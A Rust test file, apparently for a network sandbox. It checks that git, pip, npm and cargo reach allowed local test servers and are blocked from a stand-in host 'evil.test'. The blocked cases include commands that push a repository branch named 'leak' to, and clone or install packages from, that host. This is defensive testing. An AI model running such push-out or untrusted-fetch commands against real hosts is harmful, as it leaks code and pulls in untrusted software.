//! Programs that fetch what others published, each from a small server of the test: git, pip, npm, cargo.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use libtest_mimic::Failed;
use sha2::{Digest as _, Sha256, Sha512};

use crate::checks::{ensure, same};
use crate::egress::World;
use crate::needs::{Need, Needing, test, test_with};
use crate::origin::{Origin, Request, Response};
use crate::programs::{refused, rule, works};
use crate::scene::{Scene, printed, succeeded, with_input};
use crate::tries::has;

/// The tests of this file.
pub fn trials() -> Vec<Needing> {
    vec![
        test("git_clones_fetches_and_pushes_over_https", || git("https")),
        test("git_clones_fetches_and_pushes_over_http", || git("http")),
        test_with("pip_installs_from_an_index", Need::Python("pip"), pip),
        test_with("npm_installs_from_a_registry", Need::Program("npm"), npm),
        test_with("cargo_builds_with_a_registry", Need::Registry, cargo),
    ]
}

/// A server of files; it answers 404 for the rest.
fn files(all: BTreeMap<String, Vec<u8>>) -> impl crate::origin::Answers {
    move |request: &Request| {
        let path = request.target.split('?').next().unwrap_or_default();
        all.get(path)
            .map_or_else(|| Response::Whole(404, Vec::new(), Vec::new()), |content| Response::ok(content.clone()))
    }
}

/// A directory as a compressed archive.
fn packed(scene: &Scene, directory: &Path, name: &str) -> Result<Vec<u8>, Failed> {
    let mut tar = scene.host("tar");
    let output = tar.arg("-C").arg(directory).args(["-czf", "-", name]).output()?;
    succeeded("tar", &output)?;
    Ok(output.stdout)
}

/// git's own server program behind a request (RFC 3875).
fn smart_http(root: PathBuf) -> impl crate::origin::Answers {
    move |request: &Request| {
        let (path, query) = request.target.split_once('?').unwrap_or((&request.target, ""));
        let mut backend = Command::new("git");
        backend
            .arg("http-backend")
            .env("GIT_PROJECT_ROOT", &root)
            .env("GIT_HTTP_EXPORT_ALL", "1")
            .env("REMOTE_USER", "ann")
            .env("REQUEST_METHOD", &request.method)
            .env("PATH_INFO", path)
            .env("QUERY_STRING", query)
            .env("CONTENT_LENGTH", request.body.len().to_string())
            // The repository may belong to another user than the one who runs the tests.
            .env("GIT_CONFIG_COUNT", "1")
            .env("GIT_CONFIG_KEY_0", "safe.directory")
            .env("GIT_CONFIG_VALUE_0", "*")
            .stderr(Stdio::null());
        for (variable, field) in [
            ("CONTENT_TYPE", "content-type"),
            ("HTTP_CONTENT_ENCODING", "content-encoding"),
            ("GIT_PROTOCOL", "git-protocol"),
        ] {
            if let Some(value) = request.field(field) {
                backend.env(variable, value);
            }
        }
        let Ok(output) = with_input(&mut backend, &request.body) else {
            return Response::Whole(500, Vec::new(), Vec::new());
        };
        let Some(end) = output.stdout.windows(4).position(|window| window == b"\r\n\r\n") else {
            return Response::Whole(500, Vec::new(), printed(&output).into_bytes());
        };
        let head = String::from_utf8_lossy(&output.stdout[..end]).into_owned();
        let status = head.lines().find_map(|line| line.strip_prefix("Status: ")?.get(..3)?.parse().ok()).unwrap_or(200);
        let fields = head.lines().filter(|line| !line.starts_with("Status")).map(str::to_owned).collect();
        Response::Whole(status, fields, output.stdout[end + 4..].to_vec())
    }
}

fn git(scheme: &str) -> Result<(), Failed> {
    let world = World::new()?;
    let scene = &world.scene;
    let root = scene.outside("served");
    fs::create_dir(&root)?;
    let bare = root.join("shop.git").display().to_string();
    scene.git(&["clone", "--quiet", "--bare", ".", &bare])?;
    let served = |words: &[&str]| scene.git(&[&["--git-dir", &bare], words].concat());
    served(&["config", "http.receivepack", "true"])?;
    let origin = match scheme {
        "https" => Origin::https_with("127.0.0.1", &world.authority, &["git.test", "evil.test"], smart_http(root))?,
        _ => Origin::http_with("127.0.0.1", smart_http(root))?,
    };
    world.allow(&rule("git.test", origin.port()))?;
    let url = format!("{scheme}://git.test:{}/shop.git", origin.port());
    let script = format!(
        "set -e
         export GIT_SSL_CAINFO=$PWD/ca.pem
         git clone --quiet {url} copy
         cd copy
         git log --format=%s
         head -c 3000000 /dev/urandom > large
         git add large; git commit --quiet -m 'made inside'
         git push --quiet origin HEAD:main 2>&1"
    );
    let (printed, usual) = works(&world, &["sh", "-c", &script])?;
    same(&printed, &"second\nfirst\n".to_owned())?;
    same(&served(&["log", "--format=%s", "main"])?, &"made inside\nsecond\nfirst\n".to_owned())?;
    let large = served(&["cat-file", "-s", "main:large"])?;
    same(&large.trim(), &"3000000")?;
    has("clone", &origin.text(), "/shop.git/git-upload-pack HTTP/1.1")?;
    has("push", &origin.text(), "/shop.git/git-receive-pack HTTP/1.1")?;
    // What somebody else publishes is fetched.
    let tree = served(&["rev-parse", "main^{tree}"])?;
    let commit = served(&[
        "-c",
        "user.name=B",
        "-c",
        "user.email=b@x",
        "commit-tree",
        tree.trim(),
        "-p",
        "main",
        "-m",
        "other",
    ])?;
    served(&["update-ref", "refs/heads/main", commit.trim()])?;
    let script = "export GIT_SSL_CAINFO=$PWD/ca.pem; cd copy && git pull --quiet --ff-only && git log -1 --format=%s";
    same(&works(&world, &["sh", "-c", script])?.0, &"other\n".to_owned())?;
    let evil = format!("{scheme}://evil.test:{}/shop.git", origin.port());
    let clone = format!("GIT_SSL_CAINFO=$PWD/ca.pem git clone --quiet {evil} stolen");
    refused(&world, &origin, &["sh", "-c", &clone], usual, "Could not resolve host: evil.test")?;
    let push = format!("cd copy && GIT_SSL_CAINFO=$PWD/../ca.pem git push {evil} HEAD:refs/heads/leak");
    refused(&world, &origin, &["sh", "-c", &push], usual, "Could not resolve host: evil.test")?;
    same(&served(&["for-each-ref", "--format=%(refname)", "refs/heads/leak"])?, &String::new())
}

/// A wheel is an archive with a list of what it holds.
const WHEEL: &str = r#"
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], 'w') as wheel:
    wheel.writestr('greeting.py', 'def hello(): return "hello from the index"\n')
    info = 'greeting-1.0.dist-info/'
    wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\nName: greeting\nVersion: 1.0\n')
    wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
    wheel.writestr(info + 'RECORD', 'greeting.py,,\n' + info + 'METADATA,,\n' + info + 'WHEEL,,\n' + info + 'RECORD,,\n')
"#;

fn pip() -> Result<(), Failed> {
    let world = World::new()?;
    let wheel = world.scene.outside("greeting-1.0-py3-none-any.whl");
    succeeded("wheel", &world.scene.host("python3").args(["-c", WHEEL]).arg(&wheel).output()?)?;
    let wheel = fs::read(wheel)?;
    let page = format!(
        "<a href=\"/files/greeting-1.0-py3-none-any.whl#sha256={:x}\">greeting-1.0-py3-none-any.whl</a>",
        Sha256::digest(&wheel)
    );
    let served = BTreeMap::from([
        ("/simple/greeting/".to_owned(), format!("<!DOCTYPE html><html><body>{page}</body></html>").into_bytes()),
        ("/files/greeting-1.0-py3-none-any.whl".to_owned(), wheel),
    ]);
    // pip looks at the type.
    let serve = files(served);
    let answers = move |request: &Request| match serve(request) {
        Response::Whole(status, _, body) if request.target.starts_with("/simple/") => {
            Response::Whole(status, vec!["Content-Type: text/html".to_owned()], body)
        }
        other => other,
    };
    let origin = Origin::https_with("127.0.0.1", &world.authority, &["index.test", "evil.test"], answers)?;
    world.allow(&rule("index.test", origin.port()))?;
    let install = |host: &str| {
        format!(
            "python3 -m pip install --quiet --no-cache-dir --disable-pip-version-check --retries 0 --target {host} \
             --cert ca.pem --index-url https://{host}:{}/simple greeting 2>&1",
            origin.port()
        )
    };
    let script = format!(
        "{} && PYTHONPATH=index.test python3 -c 'import greeting; print(greeting.hello())'",
        install("index.test")
    );
    let (printed, usual) = works(&world, &["sh", "-c", &script])?;
    has("printed", &printed, "hello from the index\n")?;
    has("file", &origin.text(), "GET /files/greeting-1.0-py3-none-any.whl HTTP/1.1\r\n")?;
    // pip itself does not tell why; the note of the run does.
    refused(
        &world,
        &origin,
        &["sh", "-c", &install("evil.test")],
        usual,
        "No matching distribution found for greeting",
    )?;
    ensure(!world.scene.path("evil.test/greeting.py").exists(), || "installed".to_owned())
}

fn npm() -> Result<(), Failed> {
    let world = World::new()?;
    let package = world.scene.outside("package");
    fs::create_dir(&package)?;
    fs::write(package.join("package.json"), r#"{"name":"greeting","version":"1.0.0","main":"index.js"}"#)?;
    fs::write(package.join("index.js"), "module.exports = 'hello from the registry';\n")?;
    let tarball = packed(&world.scene, &world.scene.outside(""), "package")?;
    let integrity = format!("sha512-{}", BASE64_STANDARD.encode(Sha512::digest(&tarball)));
    let answers = move |request: &Request| {
        // It names the place of the archive as it was asked itself.
        let host = request.field("host").unwrap_or_default();
        match request.target.as_str() {
            "/greeting" => Response::Whole(
                200,
                vec!["Content-Type: application/json".to_owned()],
                serde_json::json!({
                    "name": "greeting",
                    "dist-tags": { "latest": "1.0.0" },
                    "versions": { "1.0.0": {
                        "name": "greeting", "version": "1.0.0",
                        "dist": { "tarball": format!("https://{host}/greeting-1.0.0.tgz"), "integrity": integrity },
                    } },
                })
                .to_string()
                .into_bytes(),
            ),
            "/greeting-1.0.0.tgz" => Response::ok(tarball.clone()),
            _ => Response::Whole(404, Vec::new(), Vec::new()),
        }
    };
    let origin = Origin::https_with("127.0.0.1", &world.authority, &["npm.test", "evil.test"], answers)?;
    world.allow(&rule("npm.test", origin.port()))?;
    world.scene.write("app/package.json", r#"{"name":"app","version":"1.0.0","private":true}"#)?;
    let install = |host: &str| {
        format!(
            "cd app && npm install --no-audit --no-fund --no-update-notifier --fetch-retries 0 --cafile ../ca.pem \
             --cache ../npm-cache-{host} --registry https://{host}:{}/ greeting 2>&1",
            origin.port()
        )
    };
    let script = format!("{} && node -p 'require(\"greeting\")'", install("npm.test"));
    let (printed, usual) = works(&world, &["sh", "-c", &script])?;
    has("printed", &printed, "hello from the registry\n")?;
    has("archive", &origin.text(), "GET /greeting-1.0.0.tgz HTTP/1.1\r\n")?;
    let evil = install("evil.test").replace("cd app", "mkdir -p other && cd other");
    refused(&world, &origin, &["sh", "-c", &evil], usual, "evil.test").map(drop)
}

fn cargo() -> Result<(), Failed> {
    let world = World::new()?;
    let published = world.scene.outside("greeting-1.0.0");
    fs::create_dir_all(published.join("src"))?;
    let manifest = "[package]\nname = \"greeting\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    fs::write(published.join("Cargo.toml"), manifest)?;
    fs::write(published.join("src/lib.rs"), "pub const HELLO: &str = \"hello from the registry\";\n")?;
    let archive = packed(&world.scene, &world.scene.outside(""), "greeting-1.0.0")?;
    let entry = serde_json::json!({
        "name": "greeting", "vers": "1.0.0", "deps": [], "features": {}, "yanked": false,
        "cksum": format!("{:x}", Sha256::digest(&archive)),
    });
    let answers = move |request: &Request| {
        let host = request.field("host").unwrap_or_default();
        match request.target.as_str() {
            "/index/config.json" => {
                Response::ok(serde_json::json!({ "dl": format!("https://{host}/crates") }).to_string())
            }
            "/index/gr/ee/greeting" => Response::ok(format!("{entry}\n")),
            "/crates/greeting/1.0.0/download" => Response::ok(archive.clone()),
            _ => Response::Whole(404, Vec::new(), Vec::new()),
        }
    };
    let origin = Origin::https_with("127.0.0.1", &world.authority, &["crates.test", "evil.test"], answers)?;
    world.allow(&rule("crates.test", origin.port()))?;
    world.scene.write("app/src/main.rs", "fn main() { println!(\"{}\", greeting::HELLO); }\n")?;
    world.scene.write(
        "app/Cargo.toml",
        "[package]\nname = \"app\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[workspace]\n\
         [dependencies]\ngreeting = { version = \"1\", registry = \"test\" }\n",
    )?;
    // With the user's own home, where the tool chain is.
    let run = |host: &str| -> Result<(std::process::Output, Duration), Failed> {
        let script = format!(
            "cd app && export CARGO_HOME=$PWD/cargo-{host} CARGO_HTTP_CAINFO=$PWD/../ca.pem CARGO_NET_RETRY=0 \
             CARGO_REGISTRIES_TEST_INDEX=sparse+https://{host}:{}/index/ && rm -f Cargo.lock && cargo run --quiet",
            origin.port()
        );
        let mut command = world.command(&["sh", "-c", &script])?;
        for name in ["HOME", "CARGO_HOME", "RUSTUP_HOME"] {
            if let Some(value) = std::env::var_os(name) {
                command.env(name, value);
            }
        }
        command.env("XDG_CONFIG_HOME", world.scene.outside("config"));
        let begun = Instant::now();
        Ok((command.output()?, begun.elapsed()))
    };
    let (output, usual) = run("crates.test")?;
    succeeded("cargo run", &output)?;
    same(&String::from_utf8_lossy(&output.stdout).as_ref(), &"hello from the registry\n")?;
    for path in ["/index/config.json", "/index/gr/ee/greeting", "/crates/greeting/1.0.0/download"] {
        has("registry", &origin.text(), &format!("GET {path} HTTP/1.1\r\n"))?;
    }
    origin.forget();
    let (output, took) = run("evil.test")?;
    ensure(!output.status.success() && took < usual + Duration::from_secs(3), || {
        format!("{took:?} {}", printed(&output))
    })?;
    has("message", &printed(&output), "evil.test")?;
    same(&origin.connections().len(), &0)
}
